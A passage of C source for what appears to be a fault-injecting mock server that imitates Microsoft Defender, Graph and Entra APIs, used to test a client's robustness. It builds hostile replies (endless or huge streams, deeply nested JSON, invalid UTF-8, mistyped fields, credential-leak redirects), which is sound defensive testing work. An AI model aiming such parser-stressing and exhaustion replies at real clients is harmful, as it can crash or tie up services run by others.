		if (strcmp(kind, "500") == 0)
			fs->n500 = v;
		else if (strcmp(kind, "503") == 0)
			fs->n503 = v;
		else if (strcmp(kind, "badjson") == 0)
			fs->nbadjson = v;
		else if (fs == &t->api && strcmp(kind, "401") == 0)
			fs->n401 = v;
		else if (fs == &t->api && strcmp(kind, "403") == 0)
			fs->n403 = v;
		else if (fs == &t->api && strcmp(kind, "expand-500") == 0)
			t->nexpand500 = v;
		else
			return -1;
	}
	return 0;
}

/*
 * Replies.
 */

static const char *
reason(int code)
{
	switch (code) {
	case 200:
		return "OK";
	case 400:
		return "Bad Request";
	case 401:
		return "Unauthorized";
	case 403:
		return "Forbidden";
	case 404:
		return "Not Found";
	case 405:
		return "Method Not Allowed";
	case 409:
		return "Conflict";
	case 429:
		return "Too Many Requests";
	case 500:
		return "Internal Server Error";
	case 503:
		return "Service Unavailable";
	default:
		return "Unknown";
	}
}

static struct evbuffer *
buf_to_evbuffer(struct buf *b)
{
	struct evbuffer	*e = evbuffer_new();

	evbuffer_add(e, b->data, b->len);
	buf_clear(b);
	return e;
}

static const char *
method_name(struct evhttp_request *req)
{
	switch (evhttp_request_get_command(req)) {
	case EVHTTP_REQ_GET:
		return "GET";
	case EVHTTP_REQ_POST:
		return "POST";
	case EVHTTP_REQ_PUT:
		return "PUT";
	case EVHTTP_REQ_DELETE:
		return "DELETE";
	case EVHTTP_REQ_HEAD:
		return "HEAD";
	default:
		return "OTHER";
	}
}

/* Keep a line in the request log ring (and on stderr with -v). */
static void
reqlog_add(struct call *c, int code)
{
	char	 ts[32], *line, *ua, *p;
	const char *h;

	ts_text(ts_now(), 7, ts);
	xasprintf(&line, "%s %s %s %s %d", ts, c->t ? c->t->name : "-",
	    method_name(c->req), evhttp_request_get_uri(c->req), code);
	log_debug("%s", line);
	if (c->api == API_CONTROL) {
		free(line);
		return;
	}
	if (F.log == NULL) {
		F.log = xcalloc(LOG_KEEP, sizeof *F.log);
		F.log_ua = xcalloc(LOG_KEEP, sizeof *F.log_ua);
		F.log_tok = xcalloc(LOG_KEEP, sizeof *F.log_tok);
	}
	free(F.log_tok[F.log_i]);
	if (c->uti[0] == '\0' || (c->api == API_TOKEN && code != 200))
		F.log_tok[F.log_i] = xstrdup("-");
	else
		xasprintf(&F.log_tok[F.log_i], "%s=%s", c->api == API_TOKEN ?
		    "issued" : "token", c->uti);
	free(F.log[F.log_i]);
	F.log[F.log_i] = line;
	h = evhttp_find_header(evhttp_request_get_input_headers(c->req),
	    "User-Agent");
	ua = xstrdup(h != NULL && *h != '\0' ? h : "-");
	for (p = ua; *p != '\0'; p++)
		if ((unsigned char)*p <= ' ' || *p == 0x7f)
			*p = '_';
	free(F.log_ua[F.log_i]);
	F.log_ua[F.log_i] = ua;
	F.log_i = (F.log_i + 1) % LOG_KEEP;
	if (F.log_n < LOG_KEEP)
		F.log_n++;
	F.requests++;
	if (code >= 0 && code < (int)nitems(F.status))
		F.status[code]++;
}

static void
delayed_send(struct delayed *d)
{
	TAILQ_REMOVE(&F.delayed, d, entry);
	evhttp_send_reply(d->req, d->code, reason(d->code), d->body);
	evbuffer_free(d->body);
	event_free(d->ev);
	free(d);
}

static void
delayed_cb(evutil_socket_t fd, short what, void *arg)
{
	delayed_send(arg);
}

/* Keep half of the body: the client gets invalid JSON. */
static struct evbuffer *
body_mangle(struct evbuffer *body)
{
	struct evbuffer	*nb = evbuffer_new();
	size_t		 len = evbuffer_get_length(body);

	if (len > 1)
		evbuffer_remove_buffer(body, nb, len / 2);
	else
		evbuffer_add(nb, "{\"value\":[", 10);
	evbuffer_free(body);
	return nb;
}

/* A chunked reply sent piece by piece as the client takes it. */
struct stream {
	struct evhttp_request	*req;
	struct evhttp_connection *evcon;
	enum hostile		 kind;
	struct evbuffer		*tail;	/* sent last (huge), or all (trickle) */
	uint64_t		 left;	/* filler bytes still to send */
	int			 ms;
	struct event		*ev;
	LIST_ENTRY(stream)	 entry;
};

static LIST_HEAD(, stream) streams = LIST_HEAD_INITIALIZER(streams);

static void
stream_free(struct stream *s)
{
	LIST_REMOVE(s, entry);
	evhttp_connection_set_closecb(s->evcon, NULL, NULL);
	if (s->ev != NULL)
		event_free(s->ev);
	evbuffer_free(s->tail);
	free(s);
}

/* The client went away: evhttp frees the request, we free the rest. */
static void
stream_closed_cb(struct evhttp_connection *evcon, void *arg)
{
	struct stream	*s = arg;

	log_debug("hostile %s reply: client closed the connection",
	    hostile_names[s->kind]);
	/* evhttp detaches a request still being sent: ending frees it. */
	if (evhttp_request_get_connection(s->req) == NULL)
		evhttp_send_reply_end(s->req);
	stream_free(s);
}

static void stream_sent_cb(struct evhttp_connection *, void *);

/* Send the next piece: filler while any is left, then the tail. */
static void
stream_next(struct stream *s)
{
	struct evbuffer	*b = evbuffer_new();
	char		 fill[65536];
	size_t		 n;

	if (s->kind == H_TRICKLE) {
		if (evbuffer_get_length(s->tail) == 0) {
			evbuffer_free(b);
			evhttp_send_reply_end(s->req);
			stream_free(s);
			return;
		}
		evbuffer_remove_buffer(s->tail, b, 1);
		evhttp_send_reply_chunk(s->req, b);
		evbuffer_free(b);
		return;
	}
	if (s->kind == H_ENDLESS || s->left > 0) {
		n = s->kind == H_ENDLESS || s->left > sizeof fill ?
		    sizeof fill : (size_t)s->left;
		memset(fill, s->kind == H_ENDLESS ? ' ' : 'A', n);
		evbuffer_add(b, fill, n);
		if (s->kind == H_HUGE)
			s->left -= n;
		evhttp_send_reply_chunk_with_cb(s->req, b, stream_sent_cb, s);
		evbuffer_free(b);
		return;
	}
	evbuffer_free(b);
	evhttp_send_reply_chunk(s->req, s->tail);
	evhttp_send_reply_end(s->req);
	stream_free(s);
}

static void
stream_sent_cb(struct evhttp_connection *evcon, void *arg)
{
	stream_next(arg);
}

static void
stream_tick_cb(evutil_socket_t fd, short what, void *arg)
{
	stream_next(arg);
}

/* Start a chunked reply of kind h; takes ownership of body. */
static void
stream_start(struct call *c, int code, struct evbuffer *body, int arg)
{
	struct stream	*s;
	struct timeval	 tv;
	char		 id[64], ts[32];

	s = xcalloc(1, sizeof *s);
	s->req = c->req;
	s->evcon = evhttp_request_get_connection(c->req);
	s->kind = c->hostile;
	s->tail = evbuffer_new();
	LIST_INSERT_HEAD(&streams, s, entry);
	evhttp_connection_set_closecb(s->evcon, stream_closed_cb, s);
	evhttp_send_reply_start(c->req, code, reason(code));
	if (s->kind == H_TRICKLE) {
		evbuffer_add_buffer(s->tail, body);
		evbuffer_free(body);
		s->ms = arg > 0 ? arg : 1;
		s->ev = event_new(F.base, -1, EV_PERSIST, stream_tick_cb, s);
		tv.tv_sec = s->ms / 1000;
		tv.tv_usec = (s->ms % 1000) * 1000;
		event_add(s->ev, &tv);
		return;
	}
	evbuffer_free(body);
	body = evbuffer_new();
	if (c->api == API_TOKEN) {
		evbuffer_add_printf(body, "{\"token_type\":\"Bearer\","
		    "\"expires_in\":3599,\"access_token\":\"");
		evbuffer_add_printf(s->tail, "\"}");
	} else {
		snprintf(id, sizeof id, "da%018" PRIu64 "_%d",
		    rng_next(&F.xrng) % UINT64_C(1000000000000000000),
		    (int)(rng_next(&F.xrng) & 0x7fff));
		ts_text(ts_now(), 7, ts);
		evbuffer_add_printf(body, "{\"@odata.context\":\"%s\","
		    "\"value\":[", c->api == API_GRAPH ? GRAPH_CONTEXT :
		    MDE_CONTEXT);
		if (s->kind == H_HUGE)
			evbuffer_add_printf(body, "{\"id\":\"%s\","
			    "\"%s\":\"%s\",\"title\":\"huge\","
			    "\"description\":\"", id,
			    c->api == API_GRAPH ? "lastUpdateDateTime" :
			    "lastUpdateTime", ts);
		evbuffer_add_printf(s->tail, "\"}]}");
	}
	s->left = (uint64_t)arg << 20;
	evhttp_send_reply_chunk_with_cb(c->req, body, stream_sent_cb, s);
	evbuffer_free(body);
}

/* A mistyped stand-in for v; *k varies the choice. */
static json_t *
mistype(json_t *v, unsigned *k)
{
	switch (json_typeof(v)) {
	case JSON_STRING:
		switch ((*k)++ % 4) {
		case 0:
			return json_integer(-1234567890123LL);
		case 1:
			return json_pack("[s]", json_string_value(v));
		case 2:
			return json_pack("{s:s}", "value",
			    json_string_value(v));
		default:
			return json_true();
		}
	case JSON_INTEGER:
	case JSON_REAL:
		return (*k)++ % 2 ? json_string("12") : json_real(1e308);
	case JSON_TRUE:
	case JSON_FALSE:
		return json_string("true");
	case JSON_NULL:
		return (*k)++ % 2 ? json_object() : json_real(-0.5);
	case JSON_ARRAY:
		return (*k)++ % 2 ? json_string("[]") : json_integer(3);
	default:
		return (*k)++ % 2 ? json_integer(7) : json_string("{}");
	}
}

/*
 * Mistype the members of o (the id and the time stamps the daemon needs
 * stay): wholesale, or inside objects and arrays when deep.
 */
static void
mistype_object(json_t *o, bool deep, bool top, unsigned *k)
{
	const char	*key;
	json_t		*v, *e;
	size_t		 i;

	json_object_foreach(o, key, v) {
		if (top && (strcmp(key, "id") == 0 ||
		    strcmp(key, "lastUpdateTime") == 0 ||
		    strcmp(key, "lastUpdateDateTime") == 0))
			continue;
		if (deep && json_is_object(v)) {
			mistype_object(v, deep, false, k);
			continue;
		}
		if (deep && json_is_array(v) && json_array_size(v) > 0) {
			json_array_foreach(v, i, e) {
				if (json_is_object(e))
					mistype_object(e, deep, false, k);
				else
					json_array_set_new(v, i,
					    mistype(e, k));
			}
			continue;
		}
		json_object_set_new(o, key, mistype(v, k));
	}
}

static struct evbuffer *
hostile_wrongtypes(struct evbuffer *body)
{
	json_t		*root, *a;
	json_error_t	 je;
	struct evbuffer	*nb;
	char		*s;
	size_t		 len = evbuffer_get_length(body), i;
	unsigned	 k = 0;

	root = json_loadb((const char *)evbuffer_pullup(body, -1), len,
	    JSON_ALLOW_NUL, &je);
	if (!json_is_array(json_object_get(root, "value"))) {
		json_decref(root);
		return body;
	}
	json_array_foreach(json_object_get(root, "value"), i, a) {
		if (json_is_object(a))
			mistype_object(a, i % 2 == 1, true, &k);
	}
	s = json_dumps(root, JSON_COMPACT);
	json_decref(root);
	if (s == NULL)
		return body;
	nb = evbuffer_new();
	evbuffer_add(nb, s, strlen(s));
	free(s);
	evbuffer_free(body);
	return nb;
}

/* Insert text at the first byte after each occurrence of pat. */
static struct evbuffer *
splice_after(struct evbuffer *body, const char *pat, const char *text,
    size_t tlen, bool once)
{
	struct evbuffer	*nb = evbuffer_new();
	const char	*p, *q, *end;
	size_t		 plen = strlen(pat);

	p = (const char *)evbuffer_pullup(body, -1);
	end = p + evbuffer_get_length(body);
	while (p < end && (q = memmem(p, (size_t)(end - p), pat, plen)) !=
	    NULL) {
		evbuffer_add(nb, p, (size_t)(q - p) + plen);
		evbuffer_add(nb, text, tlen);
		p = q + plen;
		if (once)
			break;
	}
	evbuffer_add(nb, p, (size_t)(end - p));
	evbuffer_free(body);
	return nb;
}

static struct evbuffer *
hostile_deep(struct evbuffer *body, int depth)
{
	struct buf	 t;
	int		 i;

	buf_init(&t);
	buf_adds(&t, "\"deepArray\":");
	for (i = 0; i < depth; i++)
		buf_addc(&t, '[');
	for (i = 0; i < depth; i++)
		buf_addc(&t, ']');
	buf_adds(&t, ",\"deepObject\":");
	for (i = 0; i < depth; i++)
		buf_adds(&t, "{\"a\":");
	buf_adds(&t, "1");
	for (i = 0; i < depth; i++)
		buf_addc(&t, '}');
	buf_addc(&t, ',');
	body = splice_after(body, "\"value\":[{", t.data, t.len, true);
	buf_clear(&t);
	return body;
}

static struct evbuffer *
hostile_nonutf8(struct evbuffer *body)
{
	static const char bad[] = "\xff\xfe\xc0\xaf\xed\xa0\x80\xf4\x90\x80"
	    "\x80\xe2\x82";

	body = splice_after(body, "\"title\":\"", bad, sizeof bad - 1, false);
	return splice_after(body, "\"description\":\"", bad, sizeof bad - 1,
	    false);
}

/*
 * Send a hostile version of a 200 reply (true), or rewrite *body for the
 * caller to send (false).  Takes ownership of *body when it sends.
 */
static bool
hostile_reply(struct call *c, int code, struct evbuffer **body)
{
	struct evkeyvalq	*h = evhttp_request_get_output_headers(c->req);
	struct evbuffer		*half;
	char			 s[32];
	size_t			 len;

	if (code != 200)
		return false;
	switch (c->hostile) {
	case H_TRUNCATE:
		len = evbuffer_get_length(*body);
		snprintf(s, sizeof s, "%zu", len);
		evhttp_add_header(h, "Content-Length", s);
		evhttp_add_header(h, "Connection", "close");
		half = evbuffer_new();
		evbuffer_remove_buffer(*body, half, len / 2);
		evbuffer_free(*body);
		evhttp_send_reply(c->req, code, reason(code), half);
		evbuffer_free(half);
		return true;
	case H_WRONGTYPES:
		*body = hostile_wrongtypes(*body);
		return false;
	case H_DEEP:
		*body = hostile_deep(*body, c->hostile_arg);
		return false;
	case H_NONUTF8:
		*body = hostile_nonutf8(*body);
		return false;
	case H_HUGE:
	case H_ENDLESS:
	case H_TRICKLE:
		stream_start(c, code, *body, c->hostile_arg);
		return true;
	default:
		return false;
	}
}

/* 302 to the armed host, same path and query: credentials must stay. */
static void
hostile_redirect(struct call *c, const char *to)
{
	struct evkeyvalq	*h = evhttp_request_get_output_headers(c->req);
	struct evbuffer		*b = evbuffer_new();
	char			*loc;

	xasprintf(&loc, "http://%s%s", to, evhttp_request_get_uri(c->req));
	evhttp_add_header(h, "Location", loc);
	free(loc);
	reqlog_add(c, 302);
	evhttp_send_reply(c->req, 302, "Found", b);
	evbuffer_free(b);
}

/* --token-log: every access token issued, one a line, for leak checks. */
static void
token_log_add(const char *tok)
{
	FILE	*f;

	if (F.token_log == NULL)
		return;
	if ((f = fopen(F.token_log, "a")) == NULL)
		fatal("%s", F.token_log);
	fprintf(f, "%s\n", tok);
	fclose(f);
}

/* Send (or delay) the reply; takes ownership of body. */
static void
reply(struct call *c, int code, struct evbuffer *body)
{
	struct evkeyvalq	*h = evhttp_request_get_output_headers(c->req);
	struct delayed		*d;
	struct timeval		 tv;

	if (evhttp_find_header(h, "Content-Type") == NULL)
		evhttp_add_header(h, "Content-Type",
		    "application/json; charset=utf-8");
	if (c->t != NULL && c->t->deprecated && (c->api == API_MDE ||
	    c->api == API_GRAPH)) {
		/* RFC 9745 and RFC 8594: 2027-01-01, 2027-02-01. */
		evhttp_add_header(h, "Deprecation", "@1798761600");
		evhttp_add_header(h, "Sunset", "Mon, 01 Feb 2027 00:00:00 GMT");
	}
	if (c->badjson)
		body = body_mangle(body);
	reqlog_add(c, code);
	if (c->hostile != H_NONE && hostile_reply(c, code, &body))
		return;
	if (c->delay_ms <= 0) {
		evhttp_send_reply(c->req, code, reason(code), body);
		evbuffer_free(body);
		return;
	}
	d = xcalloc(1, sizeof *d);
	d->req = c->req;
	d->body = body;
	d->code = code;
	d->ev = evtimer_new(F.base, delayed_cb, d);
	tv.tv_sec = c->delay_ms / 1000;
	tv.tv_usec = (c->delay_ms % 1000) * 1000;
	evtimer_add(d->ev, &tv);
	TAILQ_INSERT_TAIL(&F.delayed, d, entry);
}

/* MDE error shape: {"error":{"code","message","target"}}. */
static void
reply_mde_error(struct call *c, int status, const char *code,
    const char *msg)
{
	struct buf	 b;
	char		 target[37];

	rng_uuid(&F.xrng, target);
	buf_init(&b);
	buf_addf(&b, "{\"error\":{\"code\":\"%s\",\"message\":", code);
	json_str(&b, msg);
	buf_addf(&b, ",\"target\":\"%s\"}}", target);
	reply(c, status, buf_to_evbuffer(&b));
}

/* Graph error shape with innerError. */
static void
reply_graph_error(struct call *c, int status, const char *code,
    const char *msg)
{
	struct buf	 b;
	char		 rid[37], cid[37], ts[32];

	rng_uuid(&F.xrng, rid);
	rng_uuid(&F.xrng, cid);
	ts_text(ts_now(), 0, ts);
	buf_init(&b);
	buf_addf(&b, "{\"error\":{\"code\":\"%s\",\"message\":", code);
	json_str(&b, msg);
	buf_addf(&b, ",\"innerError\":{\"date\":\"%s\",\"request-id\":\"%s\","
	    "\"client-request-id\":\"%s\"}}}", ts, rid, cid);
	reply(c, status, buf_to_evbuffer(&b));
}

/* Entra error shape (§3.3) for AADSTS code aadsts. */
static void
reply_entra_error(struct call *c, int status, const char *error,
    long aadsts, const char *fmt, ...)
{
	struct buf	 b, d;
	va_list		 ap;
	char		 trace[37], corr[37], ts[32];

	rng_uuid(&F.xrng, trace);
	rng_uuid(&F.xrng, corr);
	ts_entra(ts);
	buf_init(&d);
	buf_addf(&d, "AADSTS%ld: ", aadsts);
	va_start(ap, fmt);
	buf_vaddf(&d, fmt, ap);
	va_end(ap);
	buf_addf(&d, "\r\nTrace ID: %s\r\nCorrelation ID: %s\r\nTimestamp: %s",
	    trace, corr, ts);
	buf_init(&b);
	buf_addf(&b, "{\"error\":\"%s\",\"error_description\":", error);
	json_strn(&b, d.data, d.len);
	buf_addf(&b, ",\"error_codes\":[%ld],\"timestamp\":\"%s\","
	    "\"trace_id\":\"%s\",\"correlation_id\":\"%s\",\"error_uri\":"
	    "\"https://login.microsoftonline.com/error?code=%ld\"}", aadsts, ts,
	    trace, corr, aadsts);
	buf_clear(&d);
	reply(c, status, buf_to_evbuffer(&b));
}

/* An error in the shape of the API being called. */
static void
reply_error(struct call *c, int status, const char *code, const char *msg)
{
	if (c->api == API_GRAPH)
		reply_graph_error(c, status, code, msg);
	else
		reply_mde_error(c, status, code, msg);
}

static void
reply_429(struct call *c, int64_t wait_ms)
{
	char	 s[32], msg[128];
	int64_t	 secs = (wait_ms + 999) / 1000;

	if (secs < 1)
		secs = 1;
	snprintf(s, sizeof s, "%lld", (long long)secs);
	evhttp_add_header(evhttp_request_get_output_headers(c->req),
	    "Retry-After", s);
	if (c->api == API_TOKEN) {
		reply_entra_error(c, 429, "temporarily_unavailable", 90055,
		    "TenantThrottlingError: There are too many incoming "
		    "requests. Retry after %lld seconds.", (long long)secs);
		return;
	}
	snprintf(msg, sizeof msg, "Rate limit is exceeded. Try again in %lld "
	    "seconds.", (long long)secs);
	reply_error(c, 429, "TooManyRequests", msg);
}

/* Apply the armed faults of fs; true when a reply was sent. */
static bool
faults_apply(struct call *c, struct faults *fs)
{
	int64_t	 now;
	int	 code = 0;

	c->delay_ms = fs->slow_ms;
	if (fs->throttle_secs > 0) {
		now = mono_ms();
		if (fs->throttle_until == 0)
			fs->throttle_until = now + fs->throttle_secs * 1000LL;
		if (now < fs->throttle_until) {
			reply_429(c, fs->throttle_until - now);
			return true;
		}
		fs->throttle_secs = 0;
		fs->throttle_until = 0;
	}
	if (fs->n500 > 0) {
		fs->n500--;
		code = 500;
	} else if (fs->n503 > 0) {
		fs->n503--;
		code = 503;
	}
	if (code != 0 && c->api == API_TOKEN) {
		reply_entra_error(c, code, "temporarily_unavailable", 90033,
		    "A transient error has occurred. Please try again.");
		return true;
	}
	if (code == 500)
		reply_error(c, 500, c->api == API_GRAPH ? "generalException" :
		    "InternalServerError", "An error has occurred.");
	else if (code == 503)
		reply_error(c, 503, "ServiceUnavailable",
		    "The service is temporarily unavailable.");
	else if (fs->n401 > 0) {
		fs->n401--;
		reply_error(c, 401, c->api == API_GRAPH ?
		    "InvalidAuthenticationToken" : "Unauthorized",
		    "Authorization has been denied for this request.");
	} else if (fs->n403 > 0) {
		fs->n403--;
		reply_error(c, 403, "Forbidden", "Access is denied.");
	} else if (fs->hostile == H_REDIRECT)
		hostile_redirect(c, fs->hostile_to);
	else {
		if (fs->nbadjson > 0) {
			fs->nbadjson--;
			c->badjson = true;
		}
		c->hostile = fs->hostile;
		c->hostile_arg = fs->hostile_arg;
		return false;
	}
	return true;
}

/*
 * Query strings.
 */

static int
hexval(int c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	c = tolower(c);
	if (c >= 'a' && c <= 'f')
		return c - 'a' + 10;
	return -1;
}

/* Percent-decode n bytes (and '+' to space) into a new string. */
static char *
url_decode(const char *s, size_t n, size_t *outlen)
{
	char	*out = xmalloc(n + 1);
	size_t	 i, o = 0;
	int	 h, l;

	for (i = 0; i < n; i++) {
		if (s[i] == '+')
			out[o++] = ' ';
		else if (s[i] == '%' && i + 2 < n &&
		    (h = hexval((u_char)s[i + 1])) >= 0 &&
		    (l = hexval((u_char)s[i + 2])) >= 0) {
			out[o++] = (char)(h << 4 | l);
			i += 2;
		} else
			out[o++] = s[i];
	}
	out[o] = '\0';
	if (outlen != NULL)
		*outlen = o;
	return out;
}

static void
query_clear(struct query *q)
{
	size_t	 i;

	for (i = 0; i < q->n; i++) {
		free(q->p[i].k);
		free(q->p[i].v);
	}
	q->n = 0;
}

/* Split a query string or form body; -1 when there are too many. */
static int
query_parse(const char *s, size_t len, struct query *q)
{
	const char	*p = s, *end = s + len, *amp, *eq;

	q->n = 0;
	while (p < end) {
		if ((amp = memchr(p, '&', end - p)) == NULL)
			amp = end;
		if (amp > p) {
			if (q->n == MAX_PARAMS)
				return -1;
			if ((eq = memchr(p, '=', amp - p)) == NULL)
				eq = amp;
			q->p[q->n].k = url_decode(p, eq - p, NULL);
			if (eq < amp)
				eq++;
			q->p[q->n].v = url_decode(eq, amp - eq,
			    &q->p[q->n].vlen);
			q->n++;
		}
		p = amp + 1;
	}
	return 0;
}

static const char *
query_get(const struct query *q, const char *k)
{
	size_t	 i;

	for (i = 0; i < q->n; i++) {
		if (strcasecmp(q->p[i].k, k) == 0)
			return q->p[i].v;
	}
	return NULL;
}

/*
 * OData subset.
 */

/* A literal with 0-7 fractional digits and Z. */
static int
odata_time(const char *s, size_t n, int64_t *t)
{
	size_t	 i = 19;

	if (n < 20)
		return -1;
	if (s[i] == '.') {
		for (i++; i < n && isdigit((u_char)s[i]); i++)
			;
		if (i - 20 < 1 || i - 20 > 7)
			return -1;
	}
	if (i + 1 != n || s[i] != 'Z')
		return -1;
	return ts_parse(s, n, t);
}

static void
bound_add(struct bound *b, const char *op, int64_t t)
{
	bool	 incl = op[1] == 'e';

	if (strcmp(op, "eq") == 0) {
		bound_add(b, "ge", t);
		bound_add(b, "le", t);
		return;
	}
	if (op[0] == 'g') {
		if (!b->lo_set || t > b->lo || (t == b->lo && !incl)) {
			b->lo = t;
			b->lo_incl = incl;
		}
		b->lo_set = true;
	} else {
		if (!b->hi_set || t < b->hi || (t == b->hi && !incl)) {
			b->hi = t;
			b->hi_incl = incl;
		}
		b->hi_set = true;
	}
}

/*
 * "FIELD OP TIME [and FIELD OP TIME]..." with OP ge, gt, le, lt or eq;
 * fields are lut_name or cr_name.
 */
static int
odata_filter(const char *s, const char *lut_name, const char *cr_name,
    struct odata *od, char *err, size_t errlen)
{
	char		*copy, *tok[64], *p, *save = NULL;
	size_t		 n = 0, i;
	struct bound	*b;
	int64_t		 t;
	int		 rc = -1;

	copy = xstrdup(s);
	for (p = strtok_r(copy, " ", &save); p != NULL;
	    p = strtok_r(NULL, " ", &save)) {
		if (n == nitems(tok))
			goto out;
		tok[n++] = p;
	}
	if (n == 0 || n % 4 != 3) {
		snprintf(err, errlen, "Invalid filter clause: '%s'", s);
		goto out;
	}
	for (i = 0; i < n; i += 4) {
		if (i > 0 && strcmp(tok[i - 1], "and") != 0) {
			snprintf(err, errlen, "Unsupported operator '%s' in "
			    "filter clause", tok[i - 1]);
			goto out;
		}
		if (strcasecmp(tok[i], lut_name) == 0)
			b = &od->lut;
		else if (strcasecmp(tok[i], cr_name) == 0)
			b = &od->created;
		else {
			snprintf(err, errlen, "Invalid filter clause: could "
			    "not find a property named '%s'", tok[i]);
			goto out;
		}
		p = tok[i + 1];
		if (strcmp(p, "ge") != 0 && strcmp(p, "gt") != 0 &&
		    strcmp(p, "le") != 0 && strcmp(p, "lt") != 0 &&
		    strcmp(p, "eq") != 0) {
			snprintf(err, errlen, "Unsupported operator '%s' in "
			    "filter clause", p);
			goto out;
		}
		if (odata_time(tok[i + 2], strlen(tok[i + 2]), &t) != 0) {
			snprintf(err, errlen, "The DateTimeOffset literal '%s' "
			    "is not valid", tok[i + 2]);
			goto out;
		}
		bound_add(b, p, t);
	}
	rc = 0;
out:
	if (rc != 0 && err[0] == '\0')
		snprintf(err, errlen, "Invalid filter clause");
	free(copy);
	return rc;
}

static int
odata_size(const char *s, size_t *v)
{
	char			*end;
	unsigned long long	 n;

	if (!isdigit((u_char)s[0]))
		return -1;
	errno = 0;
	n = strtoull(s, &end, 10);
	if (errno != 0 || *end != '\0' || n > 1000000000ULL)
		return -1;
	*v = (size_t)n;
	return 0;
}

/* Decode a Graph $skiptoken made by skiptoken_make. */
static int
skiptoken_parse(const char *s, struct odata *od)
{
	struct buf		 b;
	unsigned long long	 skip, snap;
	int			 rc = -1;
	char			 c;

	buf_init(&b);
	if (b64_dec(s, strlen(s), &b) == 0 && b.len > 0 &&
	    sscanf(b.data, "fc1:%llu:%llu%c", &skip, &snap, &c) == 2) {
		od->skip = (size_t)skip;
		od->snap = snap;
		rc = 0;
	}
	buf_clear(&b);
	return rc;
}

/* Only the nok names in ok, each at most once; 0 ok. */
static int
odata_names(const struct query *q, const char **ok, size_t nok, char *err,
    size_t errlen)
{
	const char	*k;
	size_t		 i, j;

	for (i = 0; i < q->n; i++) {
		k = q->p[i].k;
		for (j = 0; j < nok && strcasecmp(k, ok[j]) != 0; j++)
			;
		if (j == nok) {
			snprintf(err, errlen, "The query parameter '%s' is not "
			    "supported.", k);
			return -1;
		}
		for (j = 0; j < i; j++) {
			if (strcasecmp(q->p[j].k, k) == 0) {
				snprintf(err, errlen, "Query option '%s' was "
				    "specified more than once.", k);
				return -1;
			}
		}
	}
	return 0;
}

/* Read the system query options; an error message or NULL. */
static const char *
odata_parse(const struct query *q, enum api api, struct odata *od,
    char *err, size_t errlen)
{
	static const char	*mde_ok[] = { "$filter", "$top", "$skip",
	    "$orderby", "$expand" };
	static const char	*graph_ok[] = { "$filter", "$top", "$skip",
	    "$skiptoken", "$orderby", "$count" };
	const char		*lut_name, *cr_name, *v;
	const char		**ok;
	size_t			 nok, max;
	char			 f[64], d[16];

	memset(od, 0, sizeof *od);
	err[0] = '\0';
	ok = api == API_GRAPH ? graph_ok : mde_ok;
	nok = api == API_GRAPH ? nitems(graph_ok) : nitems(mde_ok);
	lut_name = api == API_GRAPH ? "lastUpdateDateTime" : "lastUpdateTime";
	cr_name = api == API_GRAPH ? "createdDateTime" : "alertCreationTime";
	max = api == API_GRAPH ? GRAPH_TOP_MAX : MDE_TOP_MAX;
	od->top = max;
	od->order = api == API_GRAPH ? ORDER_LUT_DESC : ORDER_LUT_ASC;
	if (odata_names(q, ok, nok, err, errlen) != 0)
		return err;
	if ((v = query_get(q, "$filter")) != NULL &&
	    odata_filter(v, lut_name, cr_name, od, err, errlen) != 0)
		return err;
	if ((v = query_get(q, "$top")) != NULL) {
		if (odata_size(v, &od->top) != 0) {
			snprintf(err, errlen, "Invalid value '%s' for $top.",
			    v);
			return err;
		}
		if (od->top > max) {
			snprintf(err, errlen, "The limit of '%zu' for Top "
			    "query has been exceeded. The value from the "
			    "incoming request is '%zu'.", max, od->top);
			return err;
		}
	}
	if ((v = query_get(q, "$skip")) != NULL && odata_size(v, &od->skip)) {
		snprintf(err, errlen, "Invalid value '%s' for $skip.", v);
		return err;
	}
	if ((v = query_get(q, "$skiptoken")) != NULL &&
	    skiptoken_parse(v, od) != 0) {
		snprintf(err, errlen, "Invalid $skiptoken.");
		return err;
	}
	if ((v = query_get(q, "$expand")) != NULL) {
		if (strcasecmp(v, "evidence") != 0) {
			snprintf(err, errlen, "Could not find a property named "
			    "'%s' to expand.", v);
			return err;
		}
		od->expand = true;
	}
	if ((v = query_get(q, "$count")) != NULL)
		od->count = strcasecmp(v, "true") == 0;
	if ((v = query_get(q, "$orderby")) != NULL) {
		d[0] = '\0';
		if (sscanf(v, "%63s %15s", f, d) < 1 ||
		    (d[0] != '\0' && strcasecmp(d, "asc") != 0 &&
		    strcasecmp(d, "desc") != 0)) {
			snprintf(err, errlen, "Invalid $orderby '%s'.", v);
			return err;
		}
		if (strcasecmp(f, lut_name) == 0)
			od->order = ORDER_LUT_ASC;
		else if (strcasecmp(f, cr_name) == 0)
			od->order = ORDER_CREATED_ASC;
		else {
			snprintf(err, errlen, "Order by '%s' is not supported.",
			    f);
			return err;
		}
		if (strcasecmp(d, "desc") == 0)
			od->order++;
	}
	return NULL;
}

static bool
bound_match(const struct bound *b, int64_t t)
{
	if (b->lo_set && (t < b->lo || (t == b->lo && !b->lo_incl)))
		return false;
	if (b->hi_set && (t > b->hi || (t == b->hi && !b->hi_incl)))
		return false;
	return true;
}

static int
alert_cmp_created(const void *x, const void *y)
{
	const struct alert	*a = *(struct alert * const *)x;
	const struct alert	*b = *(struct alert * const *)y;

	if (a->created != b->created)
		return a->created < b->created ? -1 : 1;
	return a->seq < b->seq ? -1 : a->seq > b->seq;
}

/* Pick the page of t's alerts that od asks for. */
static void
select_alerts(struct tenant *t, const struct odata *od, struct sel *s)
{
	struct alert	**all = NULL, *a;
	size_t		 lo = 0, hi = t->n, k, i, m = 0, nall = 0;
	bool		 desc, bycreated;

	memset(s, 0, sizeof *s);
	if (od->lut.lo_set)
		lo = tenant_bound(t, od->lut.lo, !od->lut.lo_incl);
	if (od->lut.hi_set)
		hi = tenant_bound(t, od->lut.hi, od->lut.hi_incl);
	if (hi < lo)
		hi = lo;
	desc = od->order == ORDER_LUT_DESC || od->order == ORDER_CREATED_DESC;
	bycreated = od->order == ORDER_CREATED_ASC ||
	    od->order == ORDER_CREATED_DESC;
	s->v = xreallocarray(NULL, (od->top < hi - lo ? od->top : hi - lo) + 1,
	    sizeof *s->v);
	if (bycreated)
		all = xreallocarray(NULL, hi - lo + 1, sizeof *all);
	for (k = 0; k < hi - lo; k++) {
		i = desc && !bycreated ? hi - 1 - k : lo + k;
		a = t->v[i];
		if (!bound_match(&od->created, a->created) ||
		    (od->snap != 0 && a->seq > od->snap))
			continue;
		if (bycreated) {
			all[nall++] = a;
			continue;
		}
		if (m++ < od->skip)
			continue;
		if (s->n < od->top)
			s->v[s->n++] = a;
		else {
